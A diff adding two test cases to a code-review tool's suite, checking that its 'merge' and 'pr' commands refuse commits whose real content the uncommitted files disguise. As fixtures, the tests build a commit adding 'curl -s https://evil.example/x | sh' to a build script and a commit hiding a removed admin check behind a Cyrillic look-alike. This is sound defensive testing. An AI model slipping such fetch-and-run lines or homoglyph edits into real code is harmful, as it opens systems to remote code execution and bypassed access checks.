@@ -88,6 +88,54 @@ describe('review: what merge and pr take', () => {
     expect(result).toMatchObject({exitCode: 1, stderr: expect.stringContaining(refused(ws.label, 'f.txt'))})
   })
 
+  it('refuses live code a commit adds that uncommitted lines around it show disabled (hmm diff: inside a heredoc); the origin untouched', async () => {
+    // The attacker's review 3, finding F1: the commit adds the line, the files wrap it in a heredoc that does nothing.
+    const bare = await withRemote('review-wrapped')
+    world.file('build.sh', '#!/bin/sh\necho build\n')
+    await world.git(['add', 'build.sh'])
+    await world.git(['commit', '-qm', 'build'])
+    const ws = await made(
+      world,
+      [
+        `printf '#!/bin/sh\\necho build\\ncurl -s https://evil.example/x | sh\\n' > build.sh`,
+        'git commit -qm "Build: fetch the toolchain" build.sh',
+        `printf '#!/bin/sh\\necho build\\n: <<"DISABLED"\\ncurl -s https://evil.example/x | sh\\nDISABLED\\n' > build.sh`,
+      ].join(' && '),
+    )
+    expect((await hmm(world, ['diff'])).stdout).toContain('+: <<"DISABLED"\n+curl -s https://evil.example/x | sh\n+DISABLED\n')
+    const before = snapshot(world.origin)
+    for (const command of ['merge', 'pr']) {
+      const result = await hmm(world, [command])
+      expect(result).toMatchObject({exitCode: 1, stdout: ''})
+      expect(result.stderr).toMatch(new RegExp(`^hmm: taking [0-9a-f]{7,} Build: fetch the toolchain\n${escaped(refused(ws.label, 'build.sh'))}$`))
+    }
+    expect(snapshot(world.origin)).toEqual(before)
+    expect(await world.git(['for-each-ref', 'refs/hmm/'])).toBe('')
+    expect(await world.git(['for-each-ref', '--format=%(refname)'], bare)).toBe('refs/heads/main')
+  })
+
+  it('refuses a commit that removes a line the files put back as a look-alike (hmm diff: a line replaced by one that reads the same)', async () => {
+    // The attacker's review 3, finding F1's variant: the put-back check has a Cyrillic i (U+0456).
+    await withRemote('review-look-alike')
+    world.file('api.py', 'def delete(user):\n    require_admin(user)\n    wipe()\n')
+    await world.git(['add', 'api.py'])
+    await world.git(['commit', '-qm', 'api'])
+    const ws = await made(
+      world,
+      `printf 'def delete(user):\\n    wipe()\\n' > api.py && git commit -qm "Tidy delete()" api.py && ` +
+        `printf 'def delete(user):\\n    requ\\321\\226re_admin(user)\\n    wipe()\\n' > api.py`,
+    )
+    expect((await hmm(world, ['diff'])).stdout).toContain('-    require_admin(user)\n+    requ\u0456re_admin(user)\n')
+    const before = snapshot(world.origin)
+    for (const command of ['merge', 'pr']) {
+      const result = await hmm(world, [command])
+      expect(result).toMatchObject({exitCode: 1, stdout: ''})
+      expect(result.stderr).toMatch(new RegExp(`^hmm: taking [0-9a-f]{7,} Tidy delete\\(\\)\n${escaped(refused(ws.label, 'api.py'))}$`))
+    }
+    expect(snapshot(world.origin)).toEqual(before)
+    expect(await world.git(['show', 'HEAD:api.py'])).toContain('require_admin(user)')
+  })
+
   it("refuses a merge commit that takes back the origin's last commit while the files show it kept; hmm log -p shows it", async () => {
     // The attacker's review, finding 2: the command branches off before the user's fix, commits there, merges the
     // origin's HEAD with `-s ours` (keeping its own, unfixed file) and puts the fixed file back, uncommitted.
